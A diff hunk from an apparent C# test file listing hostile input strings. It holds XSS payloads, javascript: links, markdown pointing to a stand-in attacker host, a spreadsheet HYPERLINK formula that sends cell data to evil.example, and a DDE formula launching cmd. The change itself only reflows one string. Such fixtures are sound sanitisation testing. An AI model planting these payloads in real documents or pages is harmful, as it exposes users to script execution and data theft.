@@ -24,7 +24,8 @@ internal static class HostileImage
         "<script>alert(1)</script><img src=x onerror=alert(1)>",
         "\"><svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
         "x' onmouseover='alert(1)' <!-- --> </title></textarea></style>",
-        "[x](javascript:alert(1)) ![i](https://evil.example/i.png) <https://evil.example> **b** `c` | cell\n\n# heading\n- item @admin #1 https://evil.example www.evil.example",
+        "[x](javascript:alert(1)) ![i](https://evil.example/i.png) <https://evil.example> **b** `c` | cell\n\n# heading\n"
+            + "- item @admin #1 https://evil.example www.evil.example",
         "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
         "+cmd|' /C calc'!A1",
         "-2+3",
